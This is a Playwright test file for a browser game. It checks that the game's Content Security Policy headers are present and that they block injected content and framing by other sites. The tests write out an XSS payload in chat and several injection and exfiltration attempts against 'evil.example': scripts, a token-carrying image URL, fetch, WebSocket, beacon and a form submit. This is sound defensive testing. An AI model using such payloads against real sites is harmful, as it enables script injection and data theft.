import type { Browser, BrowserContext } from "@playwright/test";
import { SECURITY_HEADERS } from "../../apps/server/src/http/securityHeaders.ts";
import { expect, REFUSED, test } from "./support/fixtures.ts";

/** A guest whose browser writes an error to the console, which fails a test, for all that the policy forbids. */
async function strictGuest(browser: Browser): Promise<BrowserContext> {
  const context = await browser.newContext();
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { effectiveDirective, blockedURI, sourceFile, lineNumber, columnNumber } = event;
      console.error(
        `forbidden by ${effectiveDirective}: ${blockedURI} (${sourceFile}:${lineNumber}:${columnNumber})`,
      );
    });
  });
  return context;
}

test("the game runs under its own policy: menu, room, chat, walking, coming back, and the debug overlay", async ({
  browser,
  visit,
}) => {
  const contexts = [await strictGuest(browser), await strictGuest(browser)];
  const [ann, bob] = [
    await visit({ name: "Ann", context: contexts[0] as BrowserContext }),
    await visit({ name: "Bob", context: contexts[1] as BrowserContext }),
  ];
  const arrived = await ann.page.reload();
  // A policy that is not there forbids nothing.
  for (const [name, value] of Object.entries(SECURITY_HEADERS)) {
    expect([name, await arrived?.headerValue(name)]).toEqual([name, value]);
  }
  expect(await arrived?.headerValue("Strict-Transport-Security")).toBeNull();
  await ann.button("Close debug").click();

  const code = await ann.openRoom({ title: "Under rules", password: "sesame" });
  await bob.joinByCode(code);
  await bob.password.fill("sesame");
  await bob.password.press("Enter");
  await bob.arrive();
  await ann.stroll();
  await ann.say('<img src=x onerror=alert(1)> <style>*{}</style> "hello"');
  await expect(bob.chat).toContainText('<img src=x onerror=alert(1)> <style>*{}</style> "hello"');
  await ann.sees("Bob", "active");

  await ann.page.keyboard.press("F3");
  const graphs = ann.page.getByRole("list", { name: "Graphs" });
  await expect(graphs.locator("canvas").first()).toBeVisible();
  for (const layer of ["Collision shapes", "Server ghosts"]) await ann.button(layer).click();
  for (const part of await ann.page.getByRole("region", { name: "Debug" }).locator("summary").all()) {
    await part.click();
  }

  await bob.page.reload();
  await bob.arrive();
  await bob.button("Close debug").click();
  await bob.leave();
  await ann.sees("Bob", "nobody");
  await Promise.all(contexts.map((context) => context.close()));
});

test("what is not ours does not run, and takes nothing with it", async ({
  browser,
  visit,
  expectPageError,
}) => {
  const context = await strictGuest(browser);
  const { page } = await visit({ context });
  const forbidden: string[] = [];
  page.on("console", (message) => {
    const [, directive] = /^forbidden by ([\w-]+)/.exec(message.text()) ?? [];
    if (directive) forbidden.push(directive);
  });
  expectPageError(/forbidden by|Content Security Policy/);
  await page.evaluate(() => {
    const add = (tag: string, attributes: Record<string, string>, text = "") => {
      const element = Object.assign(document.createElement(tag), attributes);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    add("script", {}, "document.title = 'taken over'");
    add("script", { src: "https://evil.example/x.js" });
    add("img", { src: "https://evil.example/?what=the+token" });
    add("style", {}, "body { display: none }");
    add("div", {}).setAttribute("style", "position: fixed");
    add("iframe", { src: "https://evil.example/" });
    add("object", { data: "https://evil.example/" });
    add("base", { href: "https://evil.example/" });
    for (const send of [
      () => fetch("https://evil.example/"),
      () => new WebSocket("wss://evil.example/"),
      () => navigator.sendBeacon("https://evil.example/"),
      () => new Worker(URL.createObjectURL(new Blob(["1"]))),
      () => setTimeout("document.title = 'taken over'"),
    ]) {
      try {
        Promise.resolve(send()).catch(() => undefined);
      } catch {
        // Some throw, and all of them tell of it in the event.
      }
    }
  });
  await expect
    .poll(() => [...new Set(forbidden)].sort())
    .toEqual([
      "base-uri",
      "connect-src",
      "frame-src",
      "img-src",
      "object-src",
      "script-src",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
      "worker-src",
    ]);
  expect(await page.evaluate(() => document.title)).toBe("Tagalong");
  await page.evaluate(() => {
    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => forbidden).toContain("form-action");
  await context.close();
});

test("no page of somebody else holds the game in a frame", async ({ browser, server, expectPageError }) => {
  expectPageError(/frame-ancestors/);
  // That page has no icon.
  expectPageError(REFUSED);
  const context = await browser.newContext();
  const page = await context.newPage();
  // Another origin, on the same machine.
  await page.goto(`${server.url.replace("127.0.0.1", "localhost")}/healthz`);
  const refused = page.waitForEvent("console", (message) => /frame-ancestors/.test(message.text()));
  await page.evaluate((url) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: url }));
  }, server.url);
  await refused;
  await context.close();
});
